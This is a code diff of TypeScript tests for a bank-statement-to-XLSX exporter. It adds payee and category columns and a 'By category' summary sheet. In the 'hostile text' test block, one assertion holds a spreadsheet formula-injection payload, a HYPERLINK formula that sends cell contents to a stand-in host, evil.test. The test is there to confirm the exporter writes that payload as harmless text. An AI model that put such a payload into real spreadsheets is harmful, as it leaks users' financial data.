@@ -31,24 +31,27 @@ const xmlFiles = async (buffer: Buffer) => {
 describe('toXlsx: the Transactions sheet', () => {
   test('when a statement has one account, then the sheets are Transactions and Summary', async () => {
     const workbook = await load(await toXlsx(aStatement()));
-    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions', 'Summary']);
+    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions', 'Summary', 'By category']);
   });
 
   test('when written, then the header is bold, frozen and filtered, and rows hold typed values', async () => {
     const sheet = (await load(await toXlsx(aStatement()))).getWorksheet('Transactions')!;
-    expect(sheet.getRow(1).values).toEqual([undefined, 'Date', 'Description', 'Debit', 'Credit', 'Amount', 'Balance', 'Page']);
-    for (let c = 1; c <= 7; c++) expect(sheet.getRow(1).getCell(c).font?.bold).toBe(true);
+    expect(sheet.getRow(1).values).toEqual([undefined, 'Date', 'Description', 'Payee', 'Category', 'Debit', 'Credit', 'Amount', 'Balance', 'Page']);
+    for (let c = 1; c <= 9; c++) expect(sheet.getRow(1).getCell(c).font?.bold).toBe(true);
     expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
-    expect(sheet.autoFilter).toBe('A1:G3');
+    expect(sheet.autoFilter).toBe('A1:I3');
 
     const debit = sheet.getRow(2);
     expect(debit.getCell(1).value).toEqual(new Date(Date.UTC(2024, 0, 2)));
     expect(debit.getCell(1).numFmt).toBe('yyyy-mm-dd');
     expect(debit.getCell(2).value).toBe('TESCO STORES 3217 LONDON');
-    expect([3, 4, 5, 6, 7].map((c) => debit.getCell(c).value)).toEqual([12.34, null, -12.34, 1222.22, 1]);
+    // The payee cleaned from the description and the category label, as text beside it.
+    expect([3, 4].map((c) => debit.getCell(c).value)).toEqual(['Tesco', 'Groceries']);
+    expect([5, 6, 7, 8, 9].map((c) => debit.getCell(c).value)).toEqual([12.34, null, -12.34, 1222.22, 1]);
     const credit = sheet.getRow(3);
-    expect([3, 4, 5, 6, 7].map((c) => credit.getCell(c).value)).toEqual([null, 100, 100, 1322.22, 2]);
-    for (const c of [3, 4, 5, 6]) expect(credit.getCell(c).numFmt).toBe('"£"#,##0.00');
+    expect([3, 4].map((c) => credit.getCell(c).value)).toEqual(['Acme', 'Salary & payroll']);
+    expect([5, 6, 7, 8, 9].map((c) => credit.getCell(c).value)).toEqual([null, 100, 100, 1322.22, 2]);
+    for (const c of [5, 6, 7, 8]) expect(credit.getCell(c).numFmt).toBe('"£"#,##0.00');
   });
 
   test('when a date is written, then the XML holds an Excel serial number, not text', async () => {
@@ -60,7 +63,7 @@ describe('toXlsx: the Transactions sheet', () => {
   test('when a balance is not printed, then its cell is empty', async () => {
     const statement = aStatement({ accounts: [anAccount({ transactions: [aTransaction({ balance: null })] })] });
     const sheet = (await load(await toXlsx(statement))).getWorksheet('Transactions')!;
-    expect(sheet.getRow(2).getCell(6).value).toBeNull();
+    expect(sheet.getRow(2).getCell(8).value).toBeNull();
   });
 
   test('when descriptions are long, then the column is widened to fit, up to a limit', async () => {
@@ -74,7 +77,7 @@ describe('toXlsx: the Transactions sheet', () => {
       .getWorksheet('Transactions')!;
     expect(short.getColumn(2).width).toBe(52);
     expect(short.getColumn(1).width).toBe(12);
-    expect(short.getColumn(6).width).toBeGreaterThanOrEqual('£1,222.22'.length);
+    expect(short.getColumn(8).width).toBeGreaterThanOrEqual('£1,222.22'.length);
   });
 
   test.each([
@@ -96,13 +99,13 @@ describe('toXlsx: the Transactions sheet', () => {
       accounts: [anAccount({ currency: 'JPY', transactions: [aTransaction({ amount: -1200, balance: 98800 })] })],
     });
     const sheet = (await load(await toXlsx(statement))).getWorksheet('Transactions')!;
-    expect(sheet.getRow(2).getCell(5).numFmt).toBe('"¥"#,##0');
+    expect(sheet.getRow(2).getCell(7).numFmt).toBe('"¥"#,##0');
   });
 
   test('when a zero-decimal currency has fractional amounts, then the decimals are kept', async () => {
     const statement = aStatement({ accounts: [anAccount({ currency: 'HUF', transactions: [aTransaction({ amount: -1200.5 })] })] });
     const sheet = (await load(await toXlsx(statement))).getWorksheet('Transactions')!;
-    expect(sheet.getRow(2).getCell(5).numFmt).toBe('[$HUF] #,##0.00');
+    expect(sheet.getRow(2).getCell(7).numFmt).toBe('[$HUF] #,##0.00');
   });
 });
 
@@ -112,9 +115,9 @@ describe('toXlsx: several accounts', () => {
       accounts: [anAccount(), anAccount({ accountNumber: '87654321', currency: 'EUR', transactions: [aTransaction({ amount: -5 })] })],
     });
     const workbook = await load(await toXlsx(statement));
-    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions 12345678', 'Transactions 87654321', 'Summary']);
-    expect(workbook.getWorksheet('Transactions 87654321')!.getRow(2).getCell(5).numFmt).toBe('[$EUR] #,##0.00');
-    expect(workbook.getWorksheet('Transactions 87654321')!.autoFilter).toBe('A1:G2');
+    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions 12345678', 'Transactions 87654321', 'Summary', 'By category']);
+    expect(workbook.getWorksheet('Transactions 87654321')!.getRow(2).getCell(7).numFmt).toBe('[$EUR] #,##0.00');
+    expect(workbook.getWorksheet('Transactions 87654321')!.autoFilter).toBe('A1:I2');
   });
 
   test('when numbers are missing or repeated, then sheets are numbered', () => {
@@ -137,7 +140,7 @@ describe('toXlsx: several accounts', () => {
 
   test('when there is no account, then the workbook still has an empty Transactions sheet', async () => {
     const workbook = await load(await toXlsx(aStatement({ accounts: [] })));
-    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions', 'Summary']);
+    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions', 'Summary', 'By category']);
     expect(workbook.getWorksheet('Transactions')!.rowCount).toBe(1);
   });
 });
@@ -157,16 +160,16 @@ describe('toXlsx: long statements', () => {
       ],
     });
     const workbook = await load(await toXlsx(statement));
-    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions 12345678', 'Transactions 87654321', 'Summary']);
+    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions 12345678', 'Transactions 87654321', 'Summary', 'By category']);
     const first = workbook.getWorksheet('Transactions 12345678')!;
     const second = workbook.getWorksheet('Transactions 87654321')!;
     expect(first.rowCount).toBe(3001);
-    expect(first.autoFilter).toBe('A1:G3001');
-    expect(second.autoFilter).toBe('A1:G2501');
-    expect([2, 3, 5, 6, 7].map((c) => first.getRow(3001).getCell(c).value)).toEqual(['PAYMENT 1-2999', 3000, -3000, 97_001, 1]);
+    expect(first.autoFilter).toBe('A1:I3001');
+    expect(second.autoFilter).toBe('A1:I2501');
+    expect([2, 5, 7, 8, 9].map((c) => first.getRow(3001).getCell(c).value)).toEqual(['PAYMENT 1-2999', 3000, -3000, 97_001, 1]);
     expect(second.getRow(2).getCell(2).value).toBe('PAYMENT 2-0');
     expect(second.getRow(2501).getCell(2).value).toBe('PAYMENT 2-2499');
-    expect(second.getRow(2501).getCell(5).numFmt).toBe('"£"#,##0.00');
+    expect(second.getRow(2501).getCell(7).numFmt).toBe('"£"#,##0.00');
     expect(summaryOf(workbook).get('Transactions')!.value).toBe(3000);
   });
 
@@ -174,7 +177,7 @@ describe('toXlsx: long statements', () => {
     // Column widths and the account's decimals once spread every value into Math.max, which overflows the stack here.
     const transactions = manyTransactions(150_000, 1);
     const xml = await xmlFiles(await toXlsx(aStatement({ accounts: [anAccount({ transactions })] })));
-    expect(xml['xl/worksheets/sheet1.xml']).toContain('<autoFilter ref="A1:G150001"/>');
+    expect(xml['xl/worksheets/sheet1.xml']).toContain('<autoFilter ref="A1:I150001"/>');
     expect(xml['xl/worksheets/sheet1.xml']).toMatch(/<row r="150001"[^>]*>/);
   });
 });
@@ -281,7 +284,7 @@ describe('toXlsx: hostile text', () => {
 
     const xml = await xmlFiles(buffer);
     const sheets = Object.entries(xml).filter(([name]) => name.startsWith('xl/worksheets/sheet'));
-    expect(sheets).toHaveLength(2);
+    expect(sheets).toHaveLength(3);
     for (const [, sheetXml] of sheets) expect(sheetXml).not.toMatch(/<f[\s>]/);
     expect(xml['xl/sharedStrings.xml']).toContain('=HYPERLINK(&quot;http://evil.test/?leak=&quot;&amp;A1,&quot;Click&quot;)');
     expect(xml['xl/sharedStrings.xml']).not.toContain(">'=");
@@ -298,5 +301,53 @@ describe('toXlsx: hostile text', () => {
     const statement = aStatement({ accounts: [anAccount({ transactions: [aTransaction({ description: 'A\u0000B\u0007C\uFFFF D\uD800' })] })] });
     const workbook = await load(await toXlsx(statement));
     expect(workbook.getWorksheet('Transactions')!.getRow(2).getCell(2).value).toBe('ABC D');
+  });
+});
+
+describe('toXlsx: payees and categories', () => {
+  test('when rows carry a payee and category, then those are written; rows without get the shipped rules\' reading', async () => {
+    const statement = aStatement({
+      accounts: [
+        anAccount({
+          transactions: [
+            aTransaction({ description: 'SQ *BLUE BOTTLE COFFEE LOS GATOS CA 0412', amount: -4.5 }),
+            aTransaction({ description: 'TESCO STORES 3217 LONDON', payee: 'Tesco Extra', category: 'shopping' }),
+          ],
+        }),
+      ],
+    });
+    const sheet = (await load(await toXlsx(statement))).getWorksheet('Transactions')!;
+    expect([2, 3].map((r) => [3, 4].map((c) => sheet.getRow(r).getCell(c).value))).toEqual([
+      ['Blue Bottle Coffee', 'Meals & dining'],
+      ['Tesco Extra', 'Shopping'],
+    ]);
+  });
+
+  test('when written, then "By category" holds money in and out per category per account as numbers', async () => {
+    const statement = aStatement({
+      accounts: [
+        anAccount({
+          transactions: [
+            aTransaction({ description: 'TESCO STORES 3217 LONDON', amount: -0.1 }),
+            aTransaction({ description: 'SAINSBURYS S/MKTS', amount: -0.2 }),
+            aTransaction({ description: 'TESCO STORES REFUND', amount: 5 }),
+            aTransaction({ description: 'SALARY ACME LTD', amount: 1000 }),
+          ],
+        }),
+        anAccount({ accountNumber: '87654321', currency: 'JPY', transactions: [aTransaction({ description: 'STARBUCKS SHIBUYA', amount: -650, balance: 10000 })] }),
+      ],
+    });
+    const sheet = (await load(await toXlsx(statement))).getWorksheet('By category')!;
+    const rows: unknown[][] = [];
+    sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
+    expect(rows).toEqual([
+      ['Account', 'Category', 'Money in', 'Money out', 'Net', 'Transactions'],
+      ['12345678', 'Salary & payroll', 1000, 0, 1000, 1],
+      ['12345678', 'Groceries', 5, 0.3, 4.7, 3],
+      ['87654321', 'Meals & dining', 0, 650, -650, 1],
+    ]);
+    expect(sheet.getRow(3).getCell(4).type).toBe(ExcelJS.ValueType.Number);
+    expect(sheet.getRow(3).getCell(4).numFmt).toBe('"£"#,##0.00');
+    expect(sheet.getRow(4).getCell(3).numFmt).toBe('"¥"#,##0');
   });
 });
